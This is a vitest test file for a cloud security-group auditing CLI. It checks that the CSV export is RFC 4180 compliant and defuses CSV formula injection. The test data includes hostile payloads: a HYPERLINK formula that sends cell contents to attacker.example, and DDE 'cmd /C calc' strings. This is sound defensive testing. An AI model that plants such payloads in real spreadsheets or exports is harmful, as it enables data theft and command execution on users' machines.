import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { AuditReport } from '../src/analysis/audit.ts';
import { CSV_COLUMNS } from '../src/report/csv.ts';
import { runWarden } from './support/cli.ts';

// Issue 15 §1: `warden audit --format csv` for spreadsheets: a header row in the documented order,
// one row per finding, RFC 4180 quoting with CRLF line ends, and group names (which whoever can edit
// a group chooses) never read as formulas (OWASP, CSV injection).

/** RFC 4180, strictly: fields separated by commas, records by CRLF, quoted fields with doubled quotes. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let i = 0;
  while (i < text.length) {
    let field = '';
    if (text[i] === '"') {
      i++;
      for (;;) {
        const quote = text.indexOf('"', i);
        if (quote < 0) throw new Error('unterminated quoted field');
        field += text.slice(i, quote);
        i = quote + 1;
        if (text[i] !== '"') break;
        field += '"';
        i++;
      }
    } else {
      const end = text.slice(i).search(/,|\r\n/);
      field = end < 0 ? text.slice(i) : text.slice(i, i + end);
      if (/["\r\n]/.test(field)) throw new Error(`unquoted field with a quote or line break: ${JSON.stringify(field)}`);
      i += field.length;
    }
    record.push(field);
    if (text[i] === ',') i++;
    else if (text.startsWith('\r\n', i)) {
      records.push(record);
      record = [];
      i += 2;
    } else throw new Error(`expected , or CRLF at ${i}`);
  }
  if (record.length) throw new Error('last record without CRLF');
  return records;
}

const HOSTILE_NAMES = [
  '=HYPERLINK("http://attacker.example/?"&A1,"Click, for details")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '+1',
  '\t=1+1',
];

function group(index: number, name: string) {
  return {
    GroupId: `sg-0000000000000000${index}`,
    GroupName: name,
    Description: "@SUM(1+1)*cmd|' /C calc'!A0",
    VpcId: 'vpc-1',
    OwnerId: '123456789012',
    IpPermissions: [
      {
        IpProtocol: 'tcp',
        FromPort: 22,
        ToPort: 22,
        IpRanges: [{ CidrIp: '0.0.0.0/0', Description: "@SUM(1+1)*cmd|' /C calc'!A0" }],
        Ipv6Ranges: [],
        PrefixListIds: [],
        UserIdGroupPairs: [],
      },
    ],
    IpPermissionsEgress: [],
  };
}

let dir: string;
let csv: string;
let report: AuditReport;

beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'warden-csv-'));
  const snapshot = {
    provider: 'aws',
    account: '123456789012',
    region: 'eu-west-1',
    pages: [{ SecurityGroups: HOSTILE_NAMES.map((name, i) => group(i + 1, name)) }],
  };
  await writeFile(join(dir, 'hostile.json'), JSON.stringify(snapshot));
  const source = join(dir, 'hostile.json');
  const [csvRun, jsonRun] = await Promise.all([
    runWarden(['audit', '--source', source, '--format', 'csv']),
    runWarden(['audit', '--source', source, '--format', 'json']),
  ]);
  expect(csvRun.code, csvRun.stderr).toBe(0);
  csv = csvRun.stdout;
  report = JSON.parse(jsonRun.stdout) as AuditReport;
});
afterAll(async () => {
  await rm(dir, { recursive: true, force: true });
});

describe('CSV injection: attacker-chosen group names and descriptions', () => {
  it('no cell starts with =, +, -, @, tab or CR; the hostile names come back as text behind a leading quote', () => {
    const rows = parseCsv(csv);
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    const nameColumn = CSV_COLUMNS.indexOf('group_name');
    const names = new Set(rows.slice(1).map((row) => row[nameColumn]));
    expect([...names].sort()).toEqual(HOSTILE_NAMES.map((name) => `'${name}`).sort());
  });
});

describe('the CSV format', () => {
  it('is a header row in the documented column order, then one CRLF-terminated row per finding', () => {
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(csv.replace(/\r\n/g, '')).not.toMatch(/(?<!")\n/);
    const [header, ...rows] = parseCsv(csv);
    expect(header).toEqual([...CSV_COLUMNS]);
    expect(rows).toHaveLength(report.findings.length);
    for (const row of rows) expect(row).toHaveLength(CSV_COLUMNS.length);
  });

  it('reads back to the findings of the JSON report (quotes, commas and line breaks survive)', () => {
    const [header, ...rows] = parseCsv(csv) as [string[], ...string[][]];
    const text = (cell: string) => cell.replace(/^'(?=[=+\-@\t\r])/, '');
    const records = rows.map((row) => Object.fromEntries(header.map((column, i) => [column, text(row[i] as string)])));
    expect(records.map((r) => r['fingerprint'])).toEqual(report.findings.map((f) => f.fingerprint));
    report.findings.forEach((finding, i) => {
      expect(records[i]).toMatchObject({
        status: 'open',
        severity: finding.severity,
        check: finding.check,
        title: finding.title,
        provider: finding.provider,
        account: finding.account,
        region: finding.region,
        group_id: finding.groupId,
        group_name: finding.groupName,
        subject: finding.subject,
        rule_ids: finding.ruleIds.join(' '),
        detail: finding.detail,
      });
    });
    expect(csv).toContain('"\'=HYPERLINK(""http://attacker.example/?""&A1,""Click, for details"")"');
  });
});
